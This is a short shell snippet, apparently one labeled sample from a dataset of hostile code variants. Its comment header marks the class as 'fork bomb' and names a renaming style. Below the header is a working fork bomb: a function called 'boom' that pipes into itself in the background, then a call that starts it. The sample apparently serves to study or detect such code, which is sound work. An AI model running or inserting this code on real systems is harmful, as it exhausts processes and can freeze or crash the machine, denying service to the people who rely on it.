# class: fork bomb; possible: low medium; style: the function with another name, main stays
boom() { boom | boom & sleep 1; }
boom
sleep 20
